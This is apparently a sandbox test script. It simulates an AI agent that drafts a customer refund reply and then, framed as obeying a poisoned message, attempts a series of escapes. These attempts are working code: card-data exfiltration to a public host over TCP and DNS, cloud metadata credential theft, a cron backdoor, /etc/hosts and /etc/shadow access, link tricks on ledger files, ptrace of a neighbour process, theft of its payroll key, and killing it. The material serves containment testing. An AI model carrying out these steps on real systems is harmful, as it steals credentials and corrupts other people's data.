#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""An agent that does its work, and then what a poisoned message talked it into.

Reads task.json in its working directory, drafts a reply, asks the gateway for the refund - and then tries everything
that an agent should not be able to do. It reports each attempt as the operating system answered it, in words on
stdout and in outcomes.jsonl: {"id", "ok", "errno", "text", "start_ns", "end_ns"} (CLOCK_MONOTONIC). It does not know
whether it is fenced, and is the same program either way.
"""

import ctypes
import errno
import json
import os
import signal
import socket
import struct
import sys
import time
import urllib.error
import urllib.request

GATEWAY = os.environ.get("GATEWAY_URL", "http://127.0.0.1:8800")
PUBLIC, PUBLIC6 = "203.0.113.80", "2001:db8::80"
CREDENTIAL_PATH = "/latest/meta-data/iam/security-credentials/agent"
TIMEOUT_S = 5
APPROVAL_S = 60  # for a human to decide
PTRACE_ATTACH, PTRACE_DETACH = 16, 17


def load_task():
    with open("task.json", encoding="utf-8") as file:
        return json.load(file)


# --- the work -------------------------------------------------------------------------------------


def work_draft(task):
    with open("reply.md", "w", encoding="utf-8") as file:
        file.write(f"Dear {task['customer']},\n\nwe are sorry. {task['amount'] / 100:.2f} EUR are on their way.\n")
    return "wrote reply.md"


def at_gateway(path, body=None):
    request = urllib.request.Request(GATEWAY + path, data=body and json.dumps(body).encode(),
                                     headers={"Content-Type": "application/json"} if body else {})
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    with opener.open(request, timeout=TIMEOUT_S) as response:
        return json.load(response)


def post_refund(task, **other):
    names = ("tenant", "order_id", "amount", "idempotency_key")
    return at_gateway("/refund", {name: other.get(name, task[name]) for name in names})


def work_refund(task):
    answer = post_refund(task)
    with open("refund.json", "w", encoding="utf-8") as file:
        json.dump(answer, file)
    return f"status {answer['status']}"


def work_refund_again(task):
    answer = post_refund(task)
    return f"status {answer['status']}"


def work_refund_large(task):
    """More than one call may move: held until a human decided; the agent asks from time to time, then repeats."""
    large = {"order_id": task["large_order_id"], "amount": task["large_amount"],
             "idempotency_key": task["task"] + "-large"}
    answer = post_refund(task, **large)
    if answer["status"] != "pending_approval":
        return f"status {answer['status']}"
    until = time.monotonic() + APPROVAL_S
    while time.monotonic() < until:
        state = at_gateway("/approvals/" + answer["approval"])["status"]
        if state != "pending_approval":
            break
        time.sleep(0.3)
    return f"held, then {state}; repeated: status {post_refund(task, **large)['status']}"


# --- what it was talked into: business ------------------------------------------------------------


def try_foreign(task):
    answer = post_refund(task, order_id=task["foreign_order_id"], amount=2000, idempotency_key=task["task"] + "-f1")
    return f"status {answer['status']}"


def try_foreign_stated(task):
    answer = post_refund(task, tenant=task["foreign_tenant"], order_id=task["foreign_order_id"], amount=2000,
                         idempotency_key=task["task"] + "-f2")
    return f"status {answer['status']}"


def try_overdraw(task):
    answer = post_refund(task, amount=4000, idempotency_key=task["task"] + "-o")
    return f"status {answer['status']}"


def try_other_body(task):
    answer = post_refund(task, amount=task["amount"] + 1)
    return f"status {answer['status']}"


# --- what it was talked into: the machine ----------------------------------------------------------------------------------------------------------------------------


def http_exchange(family, address, request):
    """One HTTP exchange on a socket that is made here, so that the address is used as it is spelled."""
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(TIMEOUT_S)
        sock.connect((address, 80))
        sock.sendall(request.encode())
        answer = b""
        while chunk := sock.recv(4096):
            answer += chunk
    return answer.decode()


def exfiltrate(family, address):
    body = "order=o-1001&card=4111"
    answer = http_exchange(
        family, address, f"POST /collect HTTP/1.0\r\nHost: drop\r\nContent-Length: {len(body)}\r\n\r\n{body}"
    )
    return answer.split("\r\n", 1)[0].strip()


def try_tcp(_):
    return exfiltrate(socket.AF_INET, PUBLIC)


def try_tcp6(_):
    return exfiltrate(socket.AF_INET6, PUBLIC6)


def try_dns(_):
    labels = ("card-4111", "exfil", "example")
    question = b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\0"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(TIMEOUT_S)
        sock.sendto(struct.pack("!6H", 0x4111, 0x0100, 1, 0, 0, 0) + question + struct.pack("!2H", 1, 1), (PUBLIC, 53))
        answer = sock.recv(512)
    return "answered" if answer[:2] == b"\x41\x11" else "an answer to another question"


def steal_credential(family, address):
    answer = http_exchange(family, address, f"GET {CREDENTIAL_PATH} HTTP/1.0\r\nHost: metadata\r\n\r\n")
    return json.loads(answer.split("\r\n\r\n", 1)[1])["Token"]


def try_metadata(_):
    return steal_credential(socket.AF_INET, "169.254.169.254")


def try_metadata_mapped(_):
    return steal_credential(socket.AF_INET6, "::ffff:169.254.169.254")


def try_metadata_hex(_):
    return steal_credential(socket.AF_INET, "0xA9FEA9FE")


def try_metadata6(_):
    return steal_credential(socket.AF_INET6, "fd00:ec2::254")


def try_cron(_):
    with open("/etc/cron.d/backdoor", "w", encoding="utf-8") as file:
        file.write("* * * * * root true\n")
    return "created"


def try_hosts(_):
    with open("/etc/hosts", "a", encoding="utf-8") as file:
        file.write(f"{PUBLIC} gateway.internal\n")
    return "appended"


def try_rename(_):
    with open("prices.csv", "w", encoding="utf-8") as file:
        file.write("everything,0.01\n")
    os.rename("prices.csv", "/srv/books/prices.csv")
    return "replaced"


def try_symlink(_):
    os.symlink("/srv/books/ledger.csv", "notes.csv")
    with open("notes.csv", "a", encoding="utf-8") as file:
        file.write("paid,twice\n")
    return "appended"


def try_hardlink(_):
    os.link("/srv/books/terms.txt", "terms.txt")
    with open("terms.txt", "w", encoding="utf-8") as file:
        file.write("none\n")
    return "overwritten"


def try_shadow(_):
    with open("/etc/shadow", encoding="utf-8") as file:
        return file.readline().split(":")[1]


def try_packet(_):
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close()
    return "listening"


def try_raw(_):
    echo = b"\x08\0\0\0\x41\x11\0\1"
    total = sum(struct.unpack("!4H", echo))
    echo = echo[:2] + struct.pack("!H", ~((total >> 16) + total) & 0xFFFF) + echo[4:]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
        sock.settimeout(TIMEOUT_S)
        sock.sendto(echo, (PUBLIC, 0))
        sock.recv(512)
    return "echo came back"


def try_ptrace(task):
    pid = task["neighbour_pid"]
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = (ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p)
    libc.ptrace.restype = ctypes.c_long
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    os.waitpid(pid, 0)
    libc.ptrace(PTRACE_DETACH, pid, None, None)
    return "attached"


def try_environ(task):
    with open(f"/proc/{task['neighbour_pid']}/environ", "rb") as file:
        variables = dict(item.split(b"=", 1) for item in file.read().split(b"\0") if b"=" in item)
    return variables[b"PAYROLL_KEY"].decode()


def try_kill(task):
    os.kill(task["neighbour_pid"], signal.SIGKILL)
    return "killed"


# id, what is said of it, function; in this order.
WORK = (
    ("draft", "draft a reply in the workdir", work_draft),
    ("refund", "POST /refund at the gateway", work_refund),
    ("refund-again", "the same refund, same key", work_refund_again),
    ("refund-large", "a large one: a human is asked", work_refund_large),
)
BUSINESS = (
    ("foreign", "refund another tenant's order", try_foreign),
    ("foreign-stated", "the same, stating that tenant", try_foreign_stated),
    ("overdraw", "refund more than is left", try_overdraw),
    ("other-body", "the used key, another amount", try_other_body),
)
MISCHIEF = (
    ("tcp", f"TCP to {PUBLIC}:80", try_tcp),
    ("tcp6", f"TCP to [{PUBLIC6}]:80", try_tcp6),
    ("dns", f"DNS query to {PUBLIC}:53", try_dns),
    ("metadata", "metadata 169.254.169.254", try_metadata),
    ("metadata-mapped", "metadata ::ffff:169.254.169.254", try_metadata_mapped),
    ("metadata-hex", "metadata 0xA9FEA9FE", try_metadata_hex),
    ("metadata6", "metadata fd00:ec2::254", try_metadata6),
    ("cron", "create /etc/cron.d/backdoor", try_cron),
    ("hosts", "append to /etc/hosts", try_hosts),
    ("rename", "rename over books/prices.csv", try_rename),
    ("symlink", "symlink to books/ledger.csv", try_symlink),
    ("hardlink", "hard link to books/terms.txt", try_hardlink),
    ("shadow", "read /etc/shadow", try_shadow),
    ("packet", "packet socket, to eavesdrop", try_packet),
    ("raw", "raw socket, to send ICMP", try_raw),
    ("ptrace", "ptrace the payroll process", try_ptrace),
    ("environ", "read its environment in /proc", try_environ),
    ("kill", "kill it", try_kill),
)


def attempt(function, task):
    """What came of it, as a dict; every answer of the system is an outcome, none ends the agent."""
    outcome = {"ok": False, "errno": None, "start_ns": time.monotonic_ns()}
    try:
        outcome.update(text=function(task), ok=True)
    except urllib.error.HTTPError as error:
        try:
            outcome["text"] = f"HTTP {error.code} {json.load(error)['error']}"
        except (ValueError, KeyError, TypeError):
            outcome["text"] = f"HTTP {error.code}"
    except OSError as error:
        cause = error.reason if isinstance(error, urllib.error.URLError) else error
        number = getattr(cause, "errno", None)
        outcome.update(errno=errno.errorcode.get(number), text=os.strerror(number) if number else str(cause))
    except (KeyError, ValueError, IndexError) as error:
        outcome["text"] = f"not what was expected: {error!r}"
    outcome["end_ns"] = time.monotonic_ns()
    return outcome


def main():
    task = load_task()
    print(f"task {task['task']}: {task['message']}", flush=True)
    failed = 0
    with open("outcomes.jsonl", "w", encoding="utf-8") as report:
        for name, title, function in WORK + BUSINESS + MISCHIEF:
            if name in task["leave_out"]:
                continue
            outcome = attempt(function, task)
            report.write(json.dumps({"id": name, **outcome}) + "\n")
            report.flush()
            failed += name in ("draft", "refund", "refund-again", "refund-large") and not outcome["ok"]
            print(f"{'ok    ' if outcome['ok'] else 'failed'} {title}: {outcome['text']}", flush=True)
            time.sleep(task["pause_s"])
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
